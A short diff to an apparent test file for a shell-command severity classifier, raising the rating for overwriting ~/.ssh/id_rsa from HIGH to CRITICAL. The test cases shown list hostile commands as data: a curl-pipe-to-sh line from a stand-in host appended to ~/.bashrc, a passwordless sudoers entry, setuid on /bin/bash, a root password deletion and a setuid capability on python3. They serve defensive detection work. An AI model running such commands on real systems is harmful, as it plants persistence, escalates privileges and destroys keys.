@@ -162,7 +162,7 @@ def test_ordinary_copies_and_reads_are_not_exfiltration(command: str) -> None:
         ("echo 'curl http://x.example/a|sh' >> ~/.bashrc", CRITICAL),
         ("echo 'alias ll=\"ls -la\"' >> ~/.bashrc", MODERATE),
         ("echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/me", CRITICAL),
-        ("> ~/.ssh/id_rsa", HIGH),
+        ("> ~/.ssh/id_rsa", CRITICAL),
         ("chmod u+s /bin/bash", CRITICAL),
         ("sudo passwd -d root", CRITICAL),
         ("setcap cap_setuid+ep /usr/bin/python3", CRITICAL),
